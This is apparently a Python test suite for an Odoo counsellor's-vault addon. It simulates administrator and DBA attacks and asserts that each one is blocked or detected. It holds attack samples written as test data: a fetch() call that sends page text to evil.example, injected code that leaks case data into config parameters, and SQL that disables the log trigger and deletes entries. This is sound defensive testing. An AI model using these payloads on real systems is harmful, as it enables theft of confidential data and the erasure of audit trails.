# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""Attacks of a Settings administrator who configures Odoo, and of a database
administrator in SQL, on an unlocked counsellor's vault (issue: the vault against
administrators). Every test does what the attacker would do and fails if anything of a
case reaches them, or if the change goes unnoticed."""

import base64

from psycopg2 import errors as pg_errors

from odoo import SUPERUSER_ID
from odoo.exceptions import AccessError, UserError
from odoo.tests import tagged
from odoo.tools import mute_logger

from ..models.vault import vault_gate
from ..models.vault import vp_vault as vault_module
from ..models.vault.vp_vault import VaultReview
from ..tools import vault_crypto
from .common import MELDER, SECRET, VAULT_PASS, CaseCommon


@tagged("post_install", "-at_install")
class TestAdminConfigurationAttacks(CaseCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.admin = cls.roles["settings_admin"]
        cls.admin_env = cls.env(user=cls.admin)
        cls.case_model = cls.env["ir.model"]._get("vp.case")

    def setUp(self):
        super().setUp()
        # the process-wide key survives a rolled-back test: start each one unlocked
        self.reunlock()

    # ------------------------------------------------------------------ helpers

    def counsellor_api(self):
        return self.env(user=self.counsellor)["vp.vault"]

    def reunlock(self):
        """The counsellor unlocks again and accepts whatever changed (as a careless
        counsellor would): the gate must still keep plaintext from the attack."""
        api = self.counsellor_api()
        try:
            api.unlock(VAULT_PASS)
        except VaultReview as review:
            api.unlock(VAULT_PASS, acknowledge=review.digest)
        self.assertIsNotNone(api._get_private_key())

    def assert_nothing_of_the_case(self, text):
        for secret in (SECRET, MELDER):
            self.assertNotIn(secret, str(text or ""))

    def leak_code(self, target):
        """safe_eval'd code that tries every way to the plaintext and writes it to
        ``target`` (a system parameter the administrator reads later)."""
        return (
            "cases = env['vp.case'].search([])\n"
            "found = cases.mapped('description') + cases.mapped('melder_name')\n"
            "found += env['vp.case'].sudo().search([]).mapped('description')\n"
            "found += [c.description for c in env['vp.case'].with_user(%d).search([])]\n"
            "env['ir.config_parameter'].sudo().set_param('%s', repr(found))\n"
        ) % (self.counsellor.id, target)

    # ------------------------------------------------------------------ refused

    def test_custom_fields_reaching_the_vault_models_are_refused(self):
        Fields = self.admin_env["ir.model.fields"]
        attempts = [
            {"model_id": self.case_model.id, "name": "x_copy", "ttype": "char"},
            {
                "model_id": self.case_model.id,
                "name": "x_desc",
                "ttype": "text",
                "related": "description",
            },
            {
                "model_id": self.env["ir.model"]._get("res.partner").id,
                "name": "x_case_id",
                "ttype": "many2one",
                "relation": "vp.case",
            },
            {
                "model_id": self.env["ir.model"]._get("vp.case.contact").id,
                "name": "x_notes",
                "ttype": "text",
                "compute": "for r in self: r['x_notes'] = r.notes",
            },
        ]
        for vals in attempts:
            with (
                self.subTest(field=vals["name"]),
                self.assertRaisesRegex(UserError, "cannot be reached by configuration"),
            ):
                Fields.create(dict(vals, state="manual"))

    def test_actions_automations_rules_templates_on_the_vault_models_are_refused(self):
        env = self.admin_env
        attempts = {
            "server action": lambda: env["ir.actions.server"].create(
                {"name": "x", "model_id": self.case_model.id, "state": "code", "code": "pass"}
            ),
            "automation": lambda: env["base.automation"].create(
                {"name": "x", "model_id": self.case_model.id, "trigger": "on_create_or_write"}
            ),
            "record rule": lambda: env["ir.rule"].create(
                {"name": "x", "model_id": self.case_model.id, "domain_force": "[(1, '=', 1)]"}
            ),
            "access right": lambda: env["ir.model.access"].create(
                {"name": "x", "model_id": self.case_model.id, "perm_read": True}
            ),
            "mail template": lambda: env["mail.template"].create(
                {"name": "x", "model_id": self.case_model.id, "body_html": "{{ object.notes }}"}
            ),
            "audit-log rule": lambda: (
                env["auditlog.rule"]
                .sudo()
                .create({"name": "x", "model_id": self.case_model.id, "log_read": True})
            ),
            "deleting the addon's record rule": lambda: env.ref(
                "vertrouwenspersoon.vp_case_rule_counsellor"
            ).unlink(),
            "widening the addon's record rule": lambda: env.ref(
                "vertrouwenspersoon.vp_case_rule_counsellor"
            ).write({"domain_force": "[(1, '=', 1)]"}),
        }
        for name, attempt in attempts.items():
            with self.subTest(attempt=name), self.assertRaises(UserError):
                attempt()

    def test_views_of_the_addon_cannot_be_inherited_or_changed(self):
        View = self.admin_env["ir.ui.view"]
        form = self.env.ref("vertrouwenspersoon.vp_case_view_form")
        inzage = self.env.ref("vertrouwenspersoon.vp_case_inzage_document")
        for name, attempt in {
            "inherit the case form": lambda: View.create(
                {
                    "name": "x",
                    "model": "vp.case",
                    "inherit_id": form.id,
                    "arch": "<field name='name' position='after'><field name='notes'/></field>",
                }
            ),
            "inherit the inzage report": lambda: View.create(
                {
                    "name": "x",
                    "type": "qweb",
                    "inherit_id": inzage.id,
                    "arch": "<xpath expr='.' position='inside'><img src='https://x/'/></xpath>",
                }
            ),
            "edit the case form": lambda: form.write({"arch": "<form/>"}),
            "delete the case form": lambda: form.unlink(),
        }.items():
            with self.subTest(attempt=name), self.assertRaises(UserError):
                attempt()

    # ------------------------------------------------------------------ what runs anyway

    def test_computed_custom_field_elsewhere_gets_no_plaintext(self):
        """A stored computed field on res.users reads the cases in the counsellor's own
        request: the vault locks on the change, and even once the counsellor accepts it,
        code from the database gets no key."""
        self.admin_env["ir.model.fields"].create(
            {
                "model_id": self.env["ir.model"]._get("res.users").id,
                "name": "x_vp_leak",
                "ttype": "text",
                "state": "manual",
                "store": True,
                "depends": "name",
                "compute": "for r in self:\n"
                "    r['x_vp_leak'] = repr(r.env['vp.case'].search([]).mapped('description')"
                " + r.env['vp.case'].sudo().search([]).mapped('melder_name'))",
            }
        )
        # the change itself locked the unlocked vault
        self.assertIsNone(self.counsellor_api()._get_private_key())
        self.reunlock()
        me = self.env(user=self.counsellor)["res.users"].browse(self.counsellor.id)
        me.write({"name": "Trigger recompute"})
        me.invalidate_recordset()
        self.assert_nothing_of_the_case(me.x_vp_leak)
        self.env.flush_all()
        self.env.cr.execute("SELECT string_agg(x_vp_leak, ' ') FROM res_users")
        self.assert_nothing_of_the_case(self.env.cr.fetchone()[0])
        # the counsellor's own code path still decrypts
        self.assertEqual(self.case_as_counsellor.description, SECRET)

    def test_server_action_run_by_the_counsellor_gets_no_plaintext(self):
        action = self.admin_env["ir.actions.server"].create(
            {
                "name": "Refresh",
                "model_id": self.env["ir.model"]._get("mail.activity").id,
                "state": "code",
                "code": self.leak_code("x.leak"),
            }
        )
        self.reunlock()
        action.with_user(self.counsellor).run()
        self.assert_nothing_of_the_case(self.env["ir.config_parameter"].sudo().get_param("x.leak"))
        # the same code run as the administrator, with sudo(): nothing either
        action.with_user(self.admin).sudo().run()
        self.assert_nothing_of_the_case(self.env["ir.config_parameter"].sudo().get_param("x.leak"))

    def test_record_rule_domain_elsewhere_gets_no_plaintext(self):
        """A rule domain is evaluated in the counsellor's request, code and all."""
        self.env["ir.rule"].create(
            {
                "name": "spy",
                "model_id": self.env["ir.model"]._get("res.partner").id,
                "domain_force": "[(1, '=', 1 if user.env['ir.config_parameter'].sudo()"
                ".set_param('x.rule', repr(user.env['vp.case'].search([]).mapped("
                "'description'))) is None else 1)]",
            }
        )
        self.reunlock()
        self.env(user=self.counsellor)["res.partner"].search([], limit=1)
        self.assert_nothing_of_the_case(self.env["ir.config_parameter"].sudo().get_param("x.rule"))
        self.assertEqual(self.case_as_counsellor.description, SECRET)

    def test_qweb_expression_gets_no_plaintext(self):
        """A template (a mail, a report, a page) evaluates an expression on a case."""
        view = self.env["ir.ui.view"].create(
            {
                "name": "spy",
                "type": "qweb",
                "arch": "<t t-name='spy'><t t-esc='cases.mapped(\"description\")'/></t>",
            }
        )
        self.reunlock()
        html = self.env(user=self.counsellor)["ir.qweb"]._render(
            view.id, {"cases": self.case_as_counsellor}
        )
        self.assert_nothing_of_the_case(html)
        self.case_as_counsellor.invalidate_recordset()
        self.assertEqual(self.case_as_counsellor.description, SECRET)

    def test_audit_log_rule_planted_in_sql_gets_no_plaintext(self):
        """OCA auditlog, installed by the organisation; its rule on vp.case is refused
        through Odoo, so the attacker plants it in SQL and reloads the rules."""
        self.env.cr.execute(
            "INSERT INTO auditlog_rule (name, model_id, model_name, model_model, log_read,"
            " log_write, log_create, log_type, state, capture_record)"
            " VALUES ('spy', %s, 'Case', 'vp.case', true, true, true, 'full', 'subscribed',"
            " false) RETURNING id",
            (self.case_model.id,),
        )
        rule = self.env["auditlog.rule"].browse(self.env.cr.fetchone()[0])
        self.reunlock()
        rule._patch_methods()
        self.addCleanup(rule._revert_methods)
        # the patched model is noticed: the vault hands out no key while it lasts
        self.assertIsNone(self.counsellor_api()._get_private_key())
        case = self.env(user=self.counsellor)["vp.case"].browse(self.case.id)
        values = case.read(["description", "melder_name"])
        self.assert_nothing_of_the_case(values)
        self.env.flush_all()
        self.env.cr.execute(
            "SELECT string_agg(coalesce(old_value,'') || coalesce(new_value,'')"
            " || coalesce(old_value_text,'') || coalesce(new_value_text,''), ' ')"
            " FROM auditlog_log_line"
        )
        self.assert_nothing_of_the_case(self.env.cr.fetchone()[0])

    # ------------------------------------------------------------------ detection

    def test_layout_change_is_shown_at_unlock_even_when_undone(self):
        self.counsellor_api().lock()
        view = self.admin_env["ir.ui.view"].create(
            {
                "name": "tracking",
                "type": "qweb",
                "inherit_id": self.env.ref("web.layout").id,
                "arch": "<xpath expr='//head' position='inside'><script src='/x.js'/></xpath>",
            }
        )
        view.unlink()  # undone before the counsellor looks
        with self.assertRaises(VaultReview) as review:
            self.counsellor_api().unlock(VAULT_PASS)
        texts = " ".join(a["text"] for a in review.exception.alerts)
        self.assertIn("tracking", texts)
        self.assertIn(self.admin.login, texts)
        self.assertIsNone(self.counsellor_api()._get_private_key())
        # a wrong acknowledgement does not open it either
        with self.assertRaises(VaultReview):
            self.counsellor_api().unlock(VAULT_PASS, acknowledge="0" * 32)
        self.counsellor_api().unlock(VAULT_PASS, acknowledge=review.exception.digest)
        self.assertEqual(self.case_as_counsellor.description, SECRET)
        # seen once is enough
        self.counsellor_api().lock()
        self.counsellor_api().unlock(VAULT_PASS)

    def test_dba_change_of_a_view_in_sql_is_shown_and_locks(self):
        self.assertIsNotNone(self.counsellor_api()._get_private_key())
        self.env.flush_all()
        self.env.cr.execute(
            "UPDATE ir_ui_view SET arch_db = jsonb_build_object('en_US',"
            " '<t t-name=\"web.layout\"><script>steal()</script></t>') WHERE id = %s",
            (self.env.ref("web.layout").id,),
        )
        # an unlocked vault locks at the next request (a new transaction)
        vault_gate.forget_checks(self.env.cr)
        self.env.invalidate_all()
        self.assertIsNone(self.counsellor_api()._get_private_key())
        self.assertNotEqual(self.case_as_counsellor.description, SECRET)
        with self.assertRaises(VaultReview) as review:
            self.counsellor_api().unlock(VAULT_PASS)
        self.assertIn("web.layout", " ".join(a["text"] for a in review.exception.alerts))

    # ------------------------------------------------------------------ compiled bundles

    def built_bundle(self):
        """A compiled JavaScript bundle, built by Odoo from the files (a small one)."""
        bundle = self.env["ir.qweb"]._get_asset_bundle(
            "web.assets_frontend_minimal", css=False, js=True
        )
        return bundle.js()

    def test_compiled_bundles_are_written_only_by_odoos_builder(self):
        bundle = self.built_bundle()
        self.assertTrue(bundle.url.startswith("/web/assets/"))
        other = self.admin_env["ir.attachment"].create({"name": "notes.js", "raw": b"1;"})
        script = b"fetch('https://evil.example/?'+document.body.innerText)"
        attempts = {
            "write the bundle": lambda: bundle.with_user(self.admin).write({"raw": script}),
            "write it with sudo": lambda: (
                bundle.with_user(self.admin).sudo().write({"raw": script})
            ),
            "a second bundle at its address": lambda: (
                self.admin_env["ir.attachment"]
                .with_user(SUPERUSER_ID)
                .create(
                    {
                        "name": bundle.name,
                        "url": bundle.url,
                        "raw": script,
                        "public": True,
                        "res_model": "ir.ui.view",
                    }
                )
            ),
            "move another file to its address": lambda: other.write({"url": bundle.url}),
            "delete it": lambda: bundle.with_user(self.admin).unlink(),
            "a server action": lambda: (
                self.admin_env["ir.actions.server"]
                .create(
                    {
                        "name": "Tune the web client",
                        "model_id": self.env["ir.model"]._get("ir.attachment").id,
                        "state": "code",
                        "code": "env['ir.attachment'].browse(%d).sudo().write({'raw': b'x'})"
                        % bundle.id,
                    }
                )
                .run()
            ),
        }
        for name, attempt in attempts.items():
            with self.subTest(attempt=name), self.assertRaises(UserError):
                attempt()
        self.assertNotIn(b"evil.example", bundle.raw)
        # Odoo itself still rebuilds its bundles from the files
        self.env["ir.attachment"].regenerate_assets_bundles()
        self.assertFalse(bundle.exists())
        self.assertTrue(self.built_bundle().url.startswith("/web/assets/"))

    def test_bundles_odoo_builds_are_no_change(self):
        self.counsellor_api().lock()
        self.env["ir.attachment"].regenerate_assets_bundles()
        self.built_bundle()
        self.assertFalse(self.counsellor_api().unlock(VAULT_PASS))  # nothing to review

    def test_dba_change_of_a_compiled_bundle_is_shown_and_locks(self):
        api = self.counsellor_api()
        # Odoo building a bundle while the vault is open is no configuration change;
        # from then on the vault knows the bundle
        bundle = self.built_bundle()
        self.env.flush_all()
        vault_gate.forget_checks(self.env.cr)
        private = api._get_private_key()
        self.assertIsNotNone(private)
        vault = api._vault_of()
        self.assertTrue(vault._config_unchanged(private))
        self.env.cr.execute(
            "UPDATE ir_attachment SET store_fname = NULL, db_datas = %s WHERE id = %s",
            (b"fetch('https://evil.example/?'+document.body.innerText)", bundle.id),
        )
        self.env.invalidate_all()
        # what the pulse of the next request runs (this test is one transaction, in
        # which the row versions of a row written twice do not move)
        self.assertFalse(vault._config_unchanged(private))
        api.lock()
        with self.assertRaises(VaultReview) as review:
            api.unlock(VAULT_PASS)
        self.assertIn(bundle.url, " ".join(a["text"] for a in review.exception.alerts))

    def test_installing_a_module_is_shown_at_unlock(self):
        self.counsellor_api().lock()
        self.env.flush_all()
        self.env.cr.execute(
            "UPDATE ir_module_module SET state = 'installed' WHERE name = ("
            " SELECT name FROM ir_module_module WHERE state = 'uninstalled' LIMIT 1)"
            " RETURNING name"
        )
        name = self.env.cr.fetchone()[0]
        with self.assertRaises(VaultReview) as review:
            self.counsellor_api().unlock(VAULT_PASS)
        self.assertIn(name, " ".join(a["text"] for a in review.exception.alerts))

    # ------------------------------------------------------------------ the security log

    def test_security_log_is_append_only_for_the_superuser_and_in_sql(self):
        line = self.env["vp.security.log"].sudo()._log("config_change", "test line")
        with self.assertRaises(AccessError):
            line.sudo().write({"description": "rewritten"})
        with self.assertRaises(AccessError):
            line.sudo().unlink()
        self.env.flush_all()
        for statement in (
            "UPDATE vp_security_log SET description = 'rewritten' WHERE id = %s",
            "DELETE FROM vp_security_log WHERE id = %s",
        ):
            with (
                self.subTest(sql=statement),
                mute_logger("odoo.sql_db"),
                self.assertRaises(pg_errors.RaiseException),
                self.env.cr.savepoint(),
            ):
                self.env.cr.execute(statement, (line.id,))

    def test_dba_who_edits_or_removes_log_lines_is_detected(self):
        log = self.env["vp.security.log"].sudo()
        first = log._log("config_change", "first")
        log._log("config_change", "second")
        self.reunlock()  # the counsellor verifies the chain up to here
        self.counsellor_api().lock()
        self.env.flush_all()
        self.env.cr.execute(
            "ALTER TABLE vp_security_log DISABLE TRIGGER vp_security_log_append_only;"
            " DELETE FROM vp_security_log WHERE id = %s;"
            " ALTER TABLE vp_security_log ENABLE TRIGGER vp_security_log_append_only;",
            (first.id,),
        )
        with self.assertRaises(VaultReview) as review:
            self.counsellor_api().unlock(VAULT_PASS)
        kinds = {a["kind"] for a in review.exception.alerts}
        self.assertIn("log", kinds)

    def test_dba_who_rewrites_the_verified_state_is_detected(self):
        vault = self.env["vp.vault"]._vault_of(self.counsellor)
        other = self.env["vp.vault"]._vault_of(self.other_counsellor)
        self.counsellor_api().lock()
        # put another vault's sealed state (or garbage) in place of the counsellor's
        self.env.flush_all()
        self.env.cr.execute(
            "UPDATE vp_vault SET verified_state_enc = %s WHERE id = %s",
            (other.sudo().verified_state_enc or "vp1s:AAAA", vault.id),
        )
        self.env.invalidate_all()
        with self.assertRaises(VaultReview) as review:
            self.counsellor_api().unlock(VAULT_PASS)
        self.assertIn("state", {a["kind"] for a in review.exception.alerts})

    # ------------------------------------------------------------------ keys

    def test_swapped_colleague_key_blocks_sharing_until_reviewed(self):
        colleague = self.env["vp.vault"]._vault_of(self.other_counsellor)
        self.reunlock()  # the counsellor has seen the colleague's real key
        real_key = colleague.public_key
        attacker = self.env["vp.vault"]._vault_of(self.counsellor).public_key
        self.env.flush_all()
        self.env.cr.execute(
            "UPDATE vp_vault SET public_key = %s, fingerprint = %s WHERE id = %s",
            (attacker, vault_crypto.fingerprint(base64.b64decode(attacker)), colleague.id),
        )
        self.env.invalidate_all()
        with self.assertRaisesRegex(UserError, "not the one you verified"):
            self.case_as_counsellor.action_share_with(self.other_counsellor)
        self.assertNotIn(self.other_counsellor, self.case.sudo().deputy_ids)
        # put back: sharing works again
        colleague.sudo().write({"public_key": real_key})
        self.case_as_counsellor.action_share_with(self.other_counsellor)
        self.assertIn(self.other_counsellor, self.case.sudo().deputy_ids)

    def test_sudo_gets_no_key_even_for_the_unlocked_counsellor(self):
        self.assertEqual(self.case_as_counsellor.description, SECRET)
        self.assertIsNone(self.env(user=self.counsellor, su=True)["vp.vault"]._get_private_key())
        sudo_case = self.case.with_user(self.counsellor).sudo()
        sudo_case.invalidate_recordset()
        self.assert_nothing_of_the_case(sudo_case.description)
        self.assertTrue(vault_module._PROCESS_KEYS)


@tagged("post_install", "-at_install")
class TestContentIntegrityAgainstDba(CaseCommon):
    """A database administrator puts back older ciphertext or forges drops."""

    def read_description(self):
        case = self.env(user=self.counsellor)["vp.case"].browse(self.case.id)
        case.invalidate_recordset()
        return case.description

    def column(self, table, column, res_id):
        self.env.flush_all()
        self.env.cr.execute(f"SELECT {column} FROM {table} WHERE id = %s", (res_id,))
        return self.env.cr.fetchone()[0]

    def put_back(self, table, column, res_id, value):
        self.env.flush_all()
        self.env.cr.execute(f"UPDATE {table} SET {column} = %s WHERE id = %s", (value, res_id))
        self.env.invalidate_all()

    def test_an_older_ciphertext_of_a_field_is_refused(self):
        old = self.column("vp_case", "description_enc", self.case.id)
        self.case_as_counsellor.description = "Nieuwe versie van het verhaal"
        self.assertEqual(self.read_description(), "Nieuwe versie van het verhaal")
        self.put_back("vp_case", "description_enc", self.case.id, old)
        with self.assertRaisesRegex(UserError, "not the version last written"):
            self.read_description()

    def test_an_older_copy_of_the_whole_case_is_refused(self):
        old_value = self.column("vp_case", "description_enc", self.case.id)
        old_manifest = self.column("vp_case", "vault_manifest_enc", self.case.id)
        self.assertTrue(old_manifest)
        self.case_as_counsellor.description = "Nieuwe versie van het verhaal"
        self.read_description()
        self.put_back("vp_case", "description_enc", self.case.id, old_value)
        self.put_back("vp_case", "vault_manifest_enc", self.case.id, old_manifest)
        with self.assertRaisesRegex(UserError, "not the version last written"):
            self.read_description()

    def test_an_older_contact_note_is_refused(self):
        contact = self.contact.with_user(self.counsellor)
        old = self.column("vp_case_contact", "notes_enc", contact.id)
        contact.notes = "Aangepaste notitie"
        self.put_back("vp_case_contact", "notes_enc", contact.id, old)
        contact.invalidate_recordset()
        with self.assertRaisesRegex(UserError, "not the version last written"):
            contact.notes  # noqa: B018  # pylint: disable=pointless-statement

    def test_a_forged_drop_is_shown_as_written_without_the_vault(self):
        """Anyone with the public key (a DBA, a script) can write content for the
        counsellor; it reads, but never as if the counsellor wrote it."""
        contact = self.contact.with_user(self.counsellor)
        self.assertFalse(contact.vault_unverified)
        forged = contact.sudo()._vault_drop_for(self.counsellor, "notes", "Vervalste notitie")
        self.put_back("vp_case_contact", "notes_enc", contact.id, forged)
        contact.invalidate_recordset()
        self.assertEqual(contact.notes, "Vervalste notitie")
        self.assertTrue(contact.vault_unverified)

    def test_a_booking_note_is_shown_as_written_without_the_vault(self):
        locked_contact = (
            self.env["vp.case.contact"]
            .with_user(self.counsellor)
            .with_context(vp_vault_creating=True)
        )
        self.env(user=self.counsellor)["vp.vault"].lock()
        added = locked_contact.create({"case_id": self.case.id, "notes": "Toegevoegd op slot"})
        self.assertTrue(added.vault_unverified)
        self.reunlock_counsellor()
        self.assertEqual(added.notes, "Toegevoegd op slot")
        self.assertTrue(added.vault_unverified)

    def reunlock_counsellor(self):
        self.env(user=self.counsellor)["vp.vault"].unlock(VAULT_PASS)

    def test_a_key_row_planted_for_the_counsellor_is_refused(self):
        """A DBA replaces the counsellor's own wrapped key by one for a key they know,
        hoping the counsellor writes new content under it."""
        known_key = vault_crypto.random_key()
        public = base64.b64decode(self.env["vp.vault"]._vault_of(self.counsellor).public_key)
        row = (
            self.env["vp.case.key"]
            .sudo()
            .search([("case_id", "=", self.case.id), ("user_id", "=", self.counsellor.id)])
        )
        planted = vault_crypto.wrap_key(
            public, known_key, ("vp.case", self.case.id, self.counsellor.id)
        )
        self.put_back("vp_case_key", "wrapped_key", row.id, planted)
        with self.assertRaisesRegex(UserError, "not the version last written"):
            self.case_as_counsellor.write({"notes": "Nieuwe aantekening"})
        self.env.flush_all()
        self.env.cr.execute("SELECT notes_enc FROM vp_case WHERE id = %s", (self.case.id,))
        envelope = self.env.cr.fetchone()[0]
        with self.assertRaises(vault_crypto.VaultCryptoError):
            vault_crypto.decrypt_field(known_key, envelope, "vp.case", self.case.id, "notes")
